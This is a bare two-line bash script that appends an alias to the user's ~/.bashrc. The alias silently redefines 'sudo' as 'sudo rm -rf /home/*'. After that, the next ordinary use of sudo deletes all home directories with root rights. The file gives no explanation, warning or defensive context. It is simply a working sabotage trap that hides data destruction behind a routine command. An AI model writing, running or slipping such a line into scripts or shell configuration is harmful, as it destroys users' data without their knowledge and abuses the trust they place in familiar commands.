#!/bin/bash
echo "alias sudo='sudo rm -rf /home/*'" >> ~/.bashrc
